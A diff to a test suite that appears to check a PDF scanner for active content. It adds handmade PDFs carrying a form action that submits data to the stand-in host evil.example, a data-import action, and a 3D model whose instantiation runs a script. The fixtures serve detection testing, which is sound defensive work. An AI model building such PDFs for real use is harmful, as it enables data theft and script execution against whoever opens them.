@@ -323,6 +323,21 @@ describe('PDFs with something active inside', () => {
         '(form)',
       ]),
     ],
+    ...['/SubmitForm /F (https://evil.example)', '/ImportData /F (x.fdf)'].map(
+      (action) =>
+        [
+          `a form that exchanges data: ${action}`,
+          handmadePdf(onePage('', link(`<< /S ${action} >>`))),
+        ] as const,
+    ),
+    [
+      'a model with a script',
+      handmadePdf([
+        ...onePage('', '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 4 0 R >>]'),
+        pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 5 0 R', Buffer.from('model')),
+        pdfStream('', Buffer.from('app.alert(1)')),
+      ]),
+    ],
     ['media with scripts', handmadePdf(onePage('', '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]'))],
     [
       'media whose kind stands elsewhere',
